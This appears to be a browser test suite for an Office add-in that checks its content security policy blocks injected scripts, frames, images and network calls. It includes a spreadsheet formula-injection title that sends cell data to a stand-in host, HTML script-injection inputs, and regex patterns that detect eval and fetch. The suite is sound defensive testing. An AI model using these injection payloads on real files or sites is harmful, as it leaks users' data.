import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { FrameLocator, Page } from 'playwright-core';
import { contentSecurityPolicy, officeCdn, responseHeaders } from '../../scripts/policy.mjs';
import { eventually } from '../support/eventually';
import { describeInBrowser, startWorkbench, type WorkbenchBrowser } from './support/browser';
import { fillActivity, openScreen, paneFrame, paneOf, picker } from './support/pane';

const addin = path.resolve(__dirname, '../../dist/addin');
const scripts = readdirSync(addin, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.js'));
const pages = ['taskpane.html', 'commands.html'];
const read = (name: string) => readFileSync(path.join(addin, name), 'utf8');

describe('the pages and scripts that are published', () => {
  it.each(pages)('%s says what it may do, holds no script of its own, and loads office.js from Microsoft', (name) => {
    const page = read(name);
    expect(page).toContain(contentSecurityPolicy);
    const tags = [...page.matchAll(/<script\b[^>]*>([^]*?)<\/script>/g)];
    expect(tags.map(([, inside]) => inside)).toEqual(tags.map(() => ''));
    const sources = tags.map(([tag]) => /\bsrc=["']?([^"'\s>]+)/.exec(tag)?.[1] ?? '');
    expect(sources.filter((source) => source.includes('//'))).toEqual([`${officeCdn}/lib/1/hosted/office.js`]);
    expect(page).not.toMatch(/\son\w+=|javascript:/i);
  });

  it('make no program of a text', () => {
    const found = scripts.filter((name) => /\beval\s*\(|\bnew Function\b|[^.\w]Function\s*\(\s*["'`]/.test(read(name)));
    expect({ scripts: scripts.length > 1, found }).toEqual({ scripts: true, found: [] });
  });

  it('ask nothing of the network themselves', () => {
    const asks = /\bfetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon/;
    expect(scripts.filter((name) => asks.test(read(name)))).toEqual([]);
  });
});

describe('the header for the server', () => {
  it('lets Office frame the pages, and nobody else', () => {
    const sources = responseHeaders()['content-security-policy']?.split(' ') ?? [];
    expect(sources[0]).toBe('frame-ancestors');
    expect(sources.slice(1).every((source) => /^https:\/\/(?:\*\.)?[a-z0-9.]+$/.test(source))).toBe(true);
    expect(sources).toContain('https://*.officeapps.live.com');
  });
});

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** Added to every document of the page before any script of its own. */
function recordViolations(): void {
  const found: Violation[] = [];
  Reflect.set(window, 'violations', found);
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    found.push({ directive: effectiveDirective, blocked: blockedURI });
  });
}

describeInBrowser('a whole session, in a browser that records every request', () => {
  let workbench: WorkbenchBrowser;
  let page: Page;
  let pane: FrameLocator;
  const requests: string[] = [];

  beforeAll(async () => {
    workbench = await startWorkbench();
    page = await workbench.open({
      width: 1440,
      height: 900,
      before: (opened) => {
        opened.on('request', (request) => requests.push(request.url()));
        return opened.addInitScript(recordViolations);
      },
    });
    pane = paneOf(page);
    await picker(page).waitFor();
  });
  afterAll(() => workbench.close());

  const violations = () => paneFrame(page).evaluate(() => Reflect.get(window, 'violations') as Violation[]);

  it('adds, reports, counts, imports and shows every screen', async () => {
    const title = '=HYPERLINK("http://x.test/"&A1)<img src=http://x.test/y>';
    await fillActivity(page, '1.1.3', '2 juin 2021', title);
    await page.keyboard.press('Control+Enter');
    await pane.getByText('Enregistré et vérifié').waitFor();

    await openScreen(page, 'Rapport');
    await pane.getByRole('button', { name: 'Rapport et couverture' }).click();
    await page.getByRole('tab', { name: 'Couverture' }).waitFor();
    await pane.getByText('La couverture est prête.').waitFor();

    await openScreen(page, 'Importer');
    const document = pane.getByRole('textbox', { name: 'Texte du document' });
    await document.fill('<img src="http://x.test/a"><script src="http://x.test/b"></script>\n4 octobre 2021 : Congrès');
    await document.press('Control+Enter');
    for (const name of await pane.getByRole('tab').allInnerTexts()) await openScreen(page, name);
  });

  it('has asked for nothing but its own files and office.js', () => {
    const origin = workbench.server.url;
    const own = /^\/(?:addin\/|office-js\/|examples\/|boot\.js$|main\.\w+\.js$|[\w.]+\.(?:js|css)$|\?lang=fr&$)/;
    const strange = requests.filter((url) => !/^(?:data|blob):/.test(url)).filter((url) => !url.startsWith(origin) || !own.test(url.slice(origin.length)));
    expect(strange).toEqual([]);
    expect(requests.filter((url) => url.includes('/office-js/')).length).toBeGreaterThan(0);
  }); // prettier-ignore

  it('has broken its own policy nowhere', async () => {
    expect(await violations()).toEqual([]);
  });

  it('is sent with the header that says who may frame it', async () => {
    const response = await page.request.get(`${workbench.server.url}/addin/taskpane.html`);
    expect(response.headers()).toMatchObject(responseHeaders(["'self'"]));
  });

  it('runs no script that was put into it, and connects to nothing', async () => {
    const asked = requests.length;
    const done = await paneFrame(page).evaluate(async () => {
      const later = <T>(job: () => T) => new Promise<T>((resolve) => setTimeout(() => resolve(job()), 0));
      const put = (name: string, change: (element: HTMLElement) => void) => {
        const element = document.createElement(name);
        change(element);
        document.body.append(element);
        return element;
      };
      put('script', (script) => (script.textContent = 'window.ranInline = true'));
      put('script', (script) => script.setAttribute('src', 'https://x.test/a.js'));
      put('img', (image) => image.setAttribute('src', 'https://x.test/a.png'));
      put('iframe', (frame) => frame.setAttribute('src', 'https://x.test/'));
      put('button', (button) => button.setAttribute('onclick', 'window.ranInline = true')).click();
      put('style', (style) => (style.textContent = 'body { background: url(https://x.test/b.png) }'));
      const evaluated = await later(() => {
        try {
          return String(window.eval('1'));
        } catch (error) {
          return (error as Error).name;
        }
      });
      const fetched = await fetch('/addin/taskpane.html').then(
        () => 'answered',
        (error: unknown) => (error as Error).name,
      );
      return { evaluated, fetched, ranInline: Reflect.get(window, 'ranInline') as unknown };
    });
    expect(done).toEqual({ evaluated: 'EvalError', fetched: 'TypeError', ranInline: undefined });
    const expected = [
      'connect-src',
      'frame-src',
      'img-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ];
    // A frame is refused when its navigation begins, which the browser may put off.
    await eventually(async () => {
      const directives = new Set((await violations()).map(({ directive }) => directive));
      expect([...directives].sort()).toEqual(expected);
    });
    expect(requests.slice(asked).filter((url) => !url.startsWith('https://x.test'))).toEqual([]);
  });
});
